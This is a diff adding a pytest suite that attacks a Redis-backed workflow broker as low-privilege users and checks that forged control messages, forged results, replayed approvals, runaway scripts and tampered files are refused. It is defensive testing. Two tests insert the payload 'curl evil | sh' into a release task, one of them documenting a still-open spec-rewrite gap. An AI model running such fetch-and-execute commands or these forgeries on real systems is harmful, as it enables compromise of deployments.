@@ -1,0 +1,497 @@
+"""Attacks on a production deployment, each run as the generated user that holds it.
+
+A real redis-server loads the users `acl generate` writes; two coordinators run with the identities
+file and `--require-signed`; the workers of webc, kalic and cmdc run as their own users and sign with
+their own secrets. Each attack must be refused or change nothing: every run it aimed at ends as it
+would have (state, payloads, results, events), each task run once by its own agent's worker, and
+nothing lost. The attack that still works — an agent's user may write a running run's spec, because
+the key layout does not yet separate what agents write from what only coordinators write — stays here
+as a strict xfail that names the gap, so this suite turns red the day it is closed.
+
+The module prints the attack table (attack, user, before, now) at its end.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import threading
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+import redis
+from redis.exceptions import NoPermissionError, NoScriptError, ResponseError
+
+from phibroker import wire
+from phibroker import workflow as workflows
+from phibroker.errors import ApprovalError
+from phibroker.keys import Keys
+from phibroker.runtime.client import Client
+from phibroker.runtime.submission import submission
+from phibroker.security import signing
+from phibroker.settings import Settings
+from phibroker.store.connection import Connection
+from tests.conftest import Processes, until
+from tests.test_core import events_of
+from tests.test_deploy import (
+    RUNAWAY,
+    Deployment,
+    agent_denials,
+    deployed,
+    output_of,
+    refused_all,
+    sha,
+    watch_denials,
+)
+from tests.test_fencing import forged_attempt
+
+AGENTS = ["webc", "kalic", "cmdc", "dormant"]  # dormant: no worker until a test starts one
+TEAM = """
+name: team
+tasks:
+  Scan: {agent: kalic, command: step, payload: {sleep: 3, target: repo}}
+  Build: {agent: webc, command: step, payload: {target: repo}}
+  Ship: {agent: cmdc, command: step, payload: {run: make release}, depends_on: [Scan, Build]}
+"""
+SLOW = "name: slow\ntasks:\n  Work: {agent: webc, command: step, payload: {sleep: 3}}\n"
+DORMANT = "name: idle\ntasks:\n  Wait: {agent: dormant, command: step, payload: {n: 1}}\n"
+GATED = """
+name: gated
+tasks:
+  Build: {agent: webc, command: step, payload: {target: repo}}
+  Approve: {approval: {message: "Ship it?", approvers: [stryk]}, depends_on: [Build]}
+  Ship: {agent: cmdc, command: step, payload: {run: make release}, depends_on: [Approve]}
+"""
+ISSUED = {"Scan": ("kalic", {"target": "repo"}), "Build": ("webc", {"target": "repo"})}
+ISSUED["Ship"] = ("cmdc", {"run": "make release"})
+
+TABLE: list[tuple[str, str, str, str]] = []  # attack, user, before these checks, now
+
+
+def record(attack: str, user: str, before: str, now: str) -> None:
+    TABLE.append((attack, user, before, now))
+
+
+@pytest.fixture(scope="module", autouse=True)
+def attack_table(request: pytest.FixtureRequest) -> Iterator[None]:
+    yield
+    if not TABLE:
+        return
+    width = [max(len(row[i]) for row in [("attack", "user", "before", "now"), *TABLE]) for i in range(3)]
+    lines = [f"{'attack':<{width[0]}}  {'user':<{width[1]}}  {'before':<{width[2]}}  now"]
+    lines += [f"{a:<{width[0]}}  {u:<{width[1]}}  {b:<{width[2]}}  {n}" for a, u, b, n in TABLE]
+    capture = request.config.pluginmanager.getplugin("capturemanager")
+    with capture.global_and_fixture_disabled():
+        print("\n" + "\n".join(lines))
+
+
+@dataclass
+class Fleet:
+    """The deployment, its processes, the signed files and the keys the attacks use."""
+
+    deployment: Deployment
+    procs: Processes
+    directory: Path
+    ledger: Path
+    files: dict[str, Path]
+    ops: signing.KeyPair  # signs workflow files; trusted
+    stryk: signing.KeyPair  # the approver; trusted
+
+    def settings(self, user: str) -> Settings:
+        """What USER's env file gives a process: its URL, namespace, and its client identity if any."""
+        env = self.deployment.env(user)
+        fields: dict[str, Any] = {"redis_url": env["PHIBROKER_REDIS_URL"], "namespace": env["PHIBROKER_NAMESPACE"]}
+        if "PHIBROKER_CLIENT_SECRET" in env:
+            fields.update(client_name=env["PHIBROKER_CLIENT_NAME"], client_secret=env["PHIBROKER_CLIENT_SECRET"])
+        return Settings(**fields, home=self.directory / f"home-{user}")
+
+    def client(self, user: str) -> Client:
+        return Client(self.settings(user))
+
+    def store(self, user: str, signed: bool = False) -> Connection:
+        """USER's own connection; `signed`: it signs with its agent's secret, as its worker does."""
+        store = Connection(self.settings(user))
+        if signed:
+            store.sign_as(user, self.deployment.env(user)["PHIBROKER_AGENT_SECRET"].encode())
+        return store
+
+    def submit(self, name: str = "team") -> str:
+        with self.client("client") as client:
+            return client.submit(self.files[name])
+
+    def unit(self, wf_id: str, unit: str, field: str) -> Any:
+        """A unit's field as a coordinator reads it (`state`, `dispatch`, ...), read as the watch user."""
+        with self.client("watch") as watch:
+            return watch.broker.read_workflow(wf_id)[1].get(unit, {}).get(field)
+
+    def dead_letters(self) -> list[dict[str, Any]]:
+        with self.client("admin") as admin:
+            return admin.dead_letters(limit=1000)
+
+    def ran(self, wf_id: str) -> list[dict[str, Any]]:
+        """What the workers ran for this run, from the ledger."""
+        lines = self.ledger.read_text().splitlines() if self.ledger.exists() else []
+        return [row for row in map(json.loads, lines) if row["wf"] == wf_id]
+
+    def alive(self) -> bool:
+        return all(process.poll() is None for process in self.procs.started)
+
+
+@pytest.fixture(scope="module")
+def fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
+    directory = tmp_path_factory.mktemp("attacks")
+    with deployed(directory, AGENTS) as deployment:
+        deployment.root.config_set("busy-reply-threshold", 1000)  # a runaway script answers BUSY after 1 s
+        procs = deployment.processes(directory)
+        ledger = directory / "ledger.jsonl"
+        ops = signing.generate(directory / "signer", "ops")
+        stryk = signing.generate(directory / "approver", "stryk")
+        files = {}
+        for name, text in (("team", TEAM), ("slow", SLOW), ("idle", DORMANT), ("gated", GATED)):
+            files[name] = directory / "files" / f"{name}.yaml"
+            files[name].parent.mkdir(exist_ok=True)
+            files[name].write_text(text)
+            signing.sign_file(ops, files[name])
+        try:
+            for key in (ops, stryk):
+                trusted = deployment.cli(procs, "admin", "keys", "trust", key.name, key.public_hex)
+                assert trusted.returncode == 0, output_of(procs, trusted)
+            deployment.coordinators(procs, 2, "--require-signed")
+            for agent in ("webc", "kalic", "cmdc"):
+                deployment.worker(procs, agent, "tests.apps.targets", TARGETS_LEDGER=str(ledger))
+            yield Fleet(deployment, procs, directory, ledger, files, ops, stryk)
+        finally:
+            procs.close()
+
+
+def untouched(fleet: Fleet, wf_id: str, issued: dict[str, tuple[str, dict[str, Any]]] = ISSUED) -> dict[str, Any]:
+    """The run ended as its signed file says: succeeded, each task run once by its own agent's worker
+    with the payload it was given, its result that worker's, and no failure, loss or cancel in its events."""
+    with fleet.client("client") as waiter:
+        status = waiter.wait(wf_id, timeout=60)
+        assert status["state"] == "succeeded", json.dumps(status, default=str)[:3000] + fleet.procs.output()
+        for task, (agent, payload) in issued.items():
+            record_ = status["tasks"][task]
+            applied = [h for h in record_["history"] if h.get("applied")]
+            assert len(applied) == 1 and applied[0]["worker"].startswith(f"{agent}@"), record_["history"]
+            assert record_["result"] == {"by": agent, **payload}
+        ran = sorted(((row["task"], row["agent"], row["payload"]) for row in fleet.ran(wf_id)), key=str)
+        assert ran == sorted(((task, agent, payload) for task, (agent, payload) in issued.items()), key=str)
+        types = {event["type"] for event in events_of(fleet.settings("watch"), wf_id)}
+        assert not {t for t in types if any(w in t for w in ("failed", "cancel", "lost", "retrying", "redispatch"))}
+    return status
+
+
+def reasons_since(fleet: Fleet, seen: int, count: int) -> list[str]:
+    """The reasons of the `count` dead letters added after the first `seen`, oldest first."""
+    rows = until(lambda: (rows := fleet.dead_letters()) and len(rows) >= seen + count and rows, fleet.procs)
+    assert len(rows) == seen + count, [(r["reason"], r.get("source")) for r in rows[: len(rows) - seen]]
+    return [r["reason"] for r in reversed(rows[: len(rows) - seen])]
+
+
+# -- the attacks that worked ---------------------------------------------------------------------------
+
+
+def test_a_forged_lost_does_not_fail_another_agents_running_task(fleet: Fleet) -> None:
+    seen = len(fleet.dead_letters())
+    wf_id = fleet.submit()
+    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
+    body = {"wf": wf_id, "unit": "Scan", "dispatch": fleet.unit(wf_id, "Scan", "dispatch"), "reason": "forged"}
+    fleet.store("webc").send_to_coordinators(wire.Inbox(kind="lost", body=body))
+    fleet.store("webc", signed=True).send_to_coordinators(wire.Inbox(kind="lost", body=body))
+    reasons = reasons_since(fleet, seen, 2)
+    assert reasons == [
+        "forged lost: not signed (only agent identities may send it)",
+        "forged lost: agent 'webc' reported 'Scan' of another agent",
+    ]
+    untouched(fleet, wf_id)
+    record("forged `lost` failing kalic's running task", "webc", "worked: the task failed", "refused: " + reasons[1])
+
+
+CONTROL = ("cancel", "retry", "signal", "submit", "kick", "redispatch", "child", "declined", "spend")
+
+
+def test_forged_control_messages_do_not_cancel_or_steer_another_teams_run(fleet: Fleet) -> None:
+    """Every kind a worker, a client or a coordinator sends, unsigned and signed by an agent's secret."""
+    seen = len(fleet.dead_letters())
+    wf_id = fleet.submit()
+    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
+    dispatch = fleet.unit(wf_id, "Scan", "dispatch")
+    bodies: dict[str, dict[str, Any]] = {
+        "cancel": {"wf": wf_id, "reason": "forged"},
+        "retry": {"wf": wf_id, "id": wire.new_id()},
+        "signal": {"wf": wf_id, "name": "go", "id": wire.new_id()},
+        "submit": {"wf": wf_id},
+        "kick": {"wf": wf_id},
+        "redispatch": {"wf": wf_id, "unit": "Scan", "dispatch": dispatch, "token": 1, "reason": "forged"},
+        "child": {"wf": wf_id, "task": "Scan", "child": "x", "state": "failed", "error": "forged"},
+        "declined": {"wf": wf_id, "unit": "Scan", "dispatch": dispatch},
+        "spend": {"wf": wf_id, "unit": "Scan", "dispatch": dispatch, "attempt": 1, "tokens": 10**9, "cost": 1e9},
+    }
+    unsigned, signed = fleet.store("webc"), fleet.store("webc", signed=True)
+    for kind in CONTROL:
+        unsigned.send_to_coordinators(wire.Inbox(kind=kind, body=bodies[kind]))
+        signed.send_to_coordinators(wire.Inbox(kind=kind, body=bodies[kind]))
+    reasons = reasons_since(fleet, seen, 2 * len(CONTROL))
+    for kind in CONTROL:
+        mine = [r for r in reasons if r.startswith(f"forged {kind}:")]
+        assert len(mine) == 2, (kind, reasons)
+    assert "forged cancel: 'webc' is agent; only client or coordinator may send it" in reasons
+    untouched(fleet, wf_id)
+    record(
+        "forged `cancel` of another team's run",
+        "webc",
+        "worked: the run was cancelled",
+        "refused (unsigned, or an agent's)",
+    )
+    record(f"forged {', '.join(CONTROL[1:])}", "webc", "unchecked", "refused (unsigned, or an agent's)")
+
+
+def test_a_copy_of_a_signed_file_written_by_an_agent_does_not_run(fleet: Fleet) -> None:
+    """webc writes runs itself (its user may: a reaction's submit) from the signed file and its signature."""
+    seen = len(fleet.dead_letters())
+    genuine = fleet.submit()
+    meta = fleet.deployment.root.hmget(fleet.deployment.keys.wf(genuine), "submitter", "submit_sig")
+    workflow = workflows.load(fleet.files["team"])
+    attempts = {}
+    for how in ("signed by webc", "unsigned", "a client's signature copied"):
+        wf_id, fields = submission(workflow, workflow.params_with({}))
+        if how == "a client's signature copied":
+            fields.update(submitter=meta[0].decode(), submit_sig=meta[1].decode())
+        fleet.store("webc", signed=how == "signed by webc").submit_workflow(wf_id, fields)
+        attempts[how] = wf_id
+    with fleet.client("client") as waiter:
+        errors = {how: waiter.wait(wf_id, timeout=60) for how, wf_id in attempts.items()}
+    assert {how: (s["state"], s["error"]) for how, s in errors.items()} == {
+        "signed by webc": ("failed", "refused: submitted by 'webc', which is not a client"),
+        "unsigned": ("failed", "refused: not submitted by a client identity (set PHIBROKER_CLIENT_SECRET)"),
+        "a client's signature copied": (
+            "failed",
+            "refused: bad submit signature for 'client' (the run was changed after it was submitted)",
+        ),
+    }
+    assert all(not fleet.ran(wf_id) for wf_id in attempts.values())
+    assert not [task for s in errors.values() for task in s["tasks"].values() if task["history"]]  # none started
+    kicks = reasons_since(fleet, seen, 3)  # each kick webc sent; the sweep's kick then refused the run
+    assert sorted(kicks) == [
+        "forged submit: 'webc' is agent; only client or coordinator may send it",
+        "forged submit: not signed (only client or coordinator identities may send it)",
+        "forged submit: not signed (only client or coordinator identities may send it)",
+    ]
+    untouched(fleet, genuine)
+    record("a copy of a signed file submitted by an agent", "webc", "worked: it ran", "refused at start: not a client")
+
+
+def test_an_agent_cannot_load_or_run_a_runaway_script(fleet: Fleet) -> None:
+    webc = fleet.deployment.client("webc")
+    for what, call in {
+        "SCRIPT LOAD": lambda: webc.script_load(RUNAWAY),
+        "EVAL": lambda: webc.eval(RUNAWAY, 0),
+        "FUNCTION LOAD": lambda: webc.function_load(
+            f"#!lua name=evil\nredis.register_function('f', function() {RUNAWAY} end)"
+        ),
+    }.items():
+        with pytest.raises(NoPermissionError):
+            call()
+            pytest.fail(f"webc may {what}")
+    with pytest.raises(NoScriptError):  # nobody loaded it: EVALSHA runs only what is in the cache
+        webc.evalsha(sha(RUNAWAY), 0)
+    record("SCRIPT LOAD + EVALSHA of a runaway loop", "webc", "worked: BUSY, every process died", "refused: NOPERM")
+
+
+def test_a_runaway_script_killed_by_the_admin_leaves_every_process_running_and_the_run_finishes(
+    fleet: Fleet,
+) -> None:
+    wf_id = fleet.submit()
+    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
+    admin = fleet.deployment.client("admin")
+    runaway = admin.script_load(RUNAWAY)
+    outcome: list[BaseException] = []
+
+    def run_away() -> None:
+        try:
+            fleet.deployment.client("admin").evalsha(runaway, 0)
+        except ResponseError as exc:
+            outcome.append(exc)
+
+    thread = threading.Thread(target=run_away)
+    thread.start()
+    watch = fleet.deployment.client("watch")
+
+    def busy() -> bool:
+        try:
+            watch.ping()
+        except ResponseError as exc:
+            return str(exc).startswith("BUSY")
+        return False
+
+    until(busy, fleet.procs)
+    time.sleep(3)  # every process meets BUSY for a while
+    assert admin.script_kill()
+    thread.join(timeout=10)
+    assert outcome and "killed" in str(outcome[0]).lower()
+    assert admin.script_flush()  # so nobody calls it again; coordinators load phibroker's scripts again
+    untouched(fleet, wf_id)
+    assert fleet.alive(), fleet.procs.output()
+    with pytest.raises(NoScriptError):
+        fleet.deployment.client("webc").evalsha(runaway, 0)
+    record("runaway script (admin's), killed after 3 s", "admin", "every process died", "all alive, run finished")
+
+
+def test_a_result_with_a_token_never_issued_is_not_applied(fleet: Fleet) -> None:
+    """webc signs, as itself, a result for its own running task with a token nobody issued."""
+    with fleet.client("client") as client:
+        wf_id = client.submit(fleet.files["slow"])
+    until(lambda: fleet.unit(wf_id, "Work", "state") == "running", fleet.procs)
+    forge(fleet, "webc", wf_id, "Work", token=7)
+    with fleet.client("watch") as watch:
+        assert not forged_attempt(watch, wf_id, "Work")["applied"]
+    untouched(fleet, wf_id, {"Work": ("webc", {})})
+    record("a result with a never-issued token", "webc", "worked: applied (no identities)", "recorded, not applied")
+
+
+def test_a_forged_result_for_a_task_only_ready_is_not_applied(fleet: Fleet) -> None:
+    """dormant's task waits for a worker: its own agent signs a success for it, and so does webc."""
+    seen = len(fleet.dead_letters())
+    with fleet.client("client") as client:
+        wf_id = client.submit(fleet.files["idle"])
+    until(lambda: fleet.unit(wf_id, "Wait", "state") == "ready", fleet.procs)
+    forge(fleet, "dormant", wf_id, "Wait", token=1)
+    forge(fleet, "webc", wf_id, "Wait", token=1)
+    assert reasons_since(fleet, seen, 1) == ["forged result: agent 'webc' answered 'Wait' of another agent"]
+    with fleet.client("watch") as watch:
+        assert not forged_attempt(watch, wf_id, "Wait")["applied"]
+        assert watch.status(wf_id)["tasks"]["Wait"]["state"] == "ready"
+    env = {"TARGETS_LEDGER": str(fleet.ledger)}
+    fleet.deployment.worker(fleet.procs, "dormant", "tests.apps.targets", **env)
+    untouched(fleet, wf_id, {"Wait": ("dormant", {"n": 1})})
+    record("a forged result for a task only `ready`", "dormant", "worked: it succeeded", "recorded, not applied")
+
+
+def forge(fleet: Fleet, agent: str, wf_id: str, unit: str, token: int) -> None:
+    """A success for UNIT, signed by AGENT's secret and sent with AGENT's user."""
+    dispatch = until(lambda: fleet.unit(wf_id, unit, "dispatch"), fleet.procs)
+    value = wire.pack({"forged": True})
+    result = wire.Result(dispatch, wf_id, unit, token, True, "mallory", 1.0, 2.0, value=value)
+    inbox = wire.Inbox(kind="results", results=[result], agent=agent)
+    secret = fleet.deployment.env(agent)["PHIBROKER_AGENT_SECRET"].encode()
+    fleet.store(agent).add(fleet.deployment.keys.results, inbox.encode(1 << 20, secret))
+
+
+# -- the attacks that held, and hold ---------------------------------------------------------------------
+
+
+def user_denials(keys: Keys, conn: redis.Redis, wf: str) -> dict[str, Callable[[], Any]]:
+    """What the client and the approver must be refused beyond their jobs (NOPERM)."""
+    return {
+        "FLUSHALL": lambda: conn.flushall(),
+        "CONFIG SET": lambda: conn.config_set("maxmemory-policy", "allkeys-lru"),
+        "SCRIPT LOAD of a runaway loop": lambda: conn.script_load(RUNAWAY),
+        "HSET into a workflow's results": lambda: conn.hset(keys.wf_results(wf), "A", "forged"),
+        "XADD to kalic's task stream": lambda: conn.xadd(keys.agent_tasks("kalic"), {"m": b"forged"}),
+        "XREADGROUP on the inbox": lambda: conn.xreadgroup("coordinators", "x", {keys.results: ">"}),
+    }
+
+
+def test_what_each_user_was_refused_is_still_refused(fleet: Fleet) -> None:
+    keys, d = fleet.deployment.keys, fleet.deployment
+    wf = "held-wf"
+    d.root.hset(keys.wf_results(wf), "A", "secret")
+    for user, denied, before in (
+        ("webc", agent_denials(keys, d.client("webc"), "kalic", "kalic.on_scan", wf), "held"),
+        ("watch", watch_denials(keys, d.client("watch"), "kalic"), "held"),
+        ("client", user_denials(keys, d.client("client"), wf), "(a new user)"),
+        ("approver", user_denials(keys, d.client("approver"), wf), "(a new user)"),
+    ):
+        refused_all(denied, user)
+        for what in denied:
+            worked = user == "webc" and what.startswith("SCRIPT LOAD")  # agents could load scripts before
+            record(what, user, "worked" if worked else before, "NOPERM")
+
+
+def test_forged_expired_replayed_and_re_pointed_approvals_are_refused(fleet: Fleet, tmp_path: Path) -> None:
+    with fleet.client("client") as client:
+        first, second = client.submit(fleet.files["gated"]), client.submit(fleet.files["gated"])
+    approver = fleet.client("approver")
+
+    def request(wf_id: str) -> dict[str, Any]:
+        return until(lambda: next((r for r in approver.approvals() if r["workflow"] == wf_id), None), fleet.procs)
+
+    one, two = request(first), request(second)
+    mallory = signing.generate(tmp_path, "mallory")
+    with pytest.raises(ApprovalError, match="untrusted key"):
+        approver.decide(one["id"], "approve", key=mallory)
+    impostor = signing.generate(tmp_path / "impostor", "stryk")  # a key that only claims to be stryk's
+    with pytest.raises(ApprovalError, match="untrusted key"):
+        approver.decide(one["id"], "approve", key=impostor)
+    expired = signing.sign_decision(
+        fleet.stryk, approval=one["id"], workflow=first, task="Approve", decision="approve", expires=time.time() - 5
+    )
+    body = signing.sign_decision(
+        fleet.stryk, approval=one["id"], workflow=first, task="Approve", decision="approve", expires=time.time() + 60
+    )
+    re_pointed = {**body, "wf": second, "approval": two["id"]}
+    for sent in (expired, re_pointed):
+        approver.broker.send_to_coordinators(wire.Inbox(kind="decide", body=sent))
+    assert approver.decide(one["id"], "approve", key=fleet.stryk)["type"] == "approval.granted"
+    approver.broker.send_to_coordinators(wire.Inbox(kind="decide", body=body))  # replayed
+
+    def refusals(wf_id: str) -> list[str]:
+        events = events_of(fleet.settings("watch"), wf_id)
+        return [e["data"]["reason"] for e in events if e["type"] == "approval.refused"]
+
+    until(lambda: len(refusals(first)) >= 4 and refusals(second), fleet.procs)
+    assert any("expired" in r for r in refusals(first)) and refusals(first)[-1] == "already decided"
+    assert any("bad signature" in r for r in refusals(second)), refusals(second)
+    with fleet.client("watch") as watch:
+        assert watch.status(second)["state"] == "waiting_approval"
+    assert approver.decide(two["id"], "approve", key=fleet.stryk)["type"] == "approval.granted"
+    issued = {"Build": ISSUED["Build"], "Ship": ISSUED["Ship"]}
+    for wf_id in (first, second):
+        untouched(fleet, wf_id, issued)
+    for what in ("forged (untrusted key)", "forged (a key claiming stryk)", "expired", "replayed", "re-pointed"):
+        record(f"{what} approval", "approver", "held", "refused: approval.refused")
+
+
+def test_unsigned_and_tampered_workflow_files_are_refused(fleet: Fleet, tmp_path: Path) -> None:
+    tampered = tmp_path / "team.yaml"
+    shutil.copy(fleet.files["team"], tampered)
+    shutil.copy(fleet.files["team"].with_suffix(".yaml.sig"), tmp_path / "team.yaml.sig")
+    tampered.write_text(TEAM.replace("make release", "curl evil | sh"))
+    unsigned = tmp_path / "unsigned.yaml"
+    unsigned.write_text(TEAM)
+    with fleet.client("client") as client:
+        ends = {name: client.wait(client.submit(path), timeout=60) for name, path in (("t", tampered), ("u", unsigned))}
+    assert ends["t"]["state"] == "failed" and "tampered" in ends["t"]["error"]
+    assert ends["u"]["state"] == "failed" and "not signed" in ends["u"]["error"]
+    assert not fleet.ran(ends["t"]["id"]) and not fleet.ran(ends["u"]["id"])
+    record("tampered signed file", "client", "held", ends["t"]["error"])
+    record("unsigned file", "client", "held", ends["u"]["error"])
+
+
+# -- the gap that remains --------------------------------------------------------------------------------
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="key layout: an agent's user may HSET a running run's meta hash (its spec, its version), which "
+    "only coordinators should write; signatures are checked at start only",
+)
+def test_an_agent_cannot_rewrite_a_running_runs_spec(fleet: Fleet) -> None:
+    keys = fleet.deployment.keys
+    wf_id = fleet.submit()
+    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
+    webc = fleet.deployment.client("webc")
+    spec = json.loads(webc.hget(keys.wf(wf_id), "spec"))
+    spec["tasks"]["Ship"]["payload"] = {"run": "curl evil | sh"}
+    webc.hset(keys.wf(wf_id), "spec", json.dumps(spec))
+    webc.hincrby(keys.wf(wf_id), "version", 1)
+    with fleet.client("client") as waiter:
+        waiter.wait(wf_id, timeout=60)
+    ran = {row["task"]: row["payload"] for row in fleet.ran(wf_id)}
+    record("HSET a running run's spec (cmdc's payload)", "webc", "worked", f"still works: Ship ran {ran.get('Ship')}")
+    assert ran.get("Ship") == {"run": "make release"}
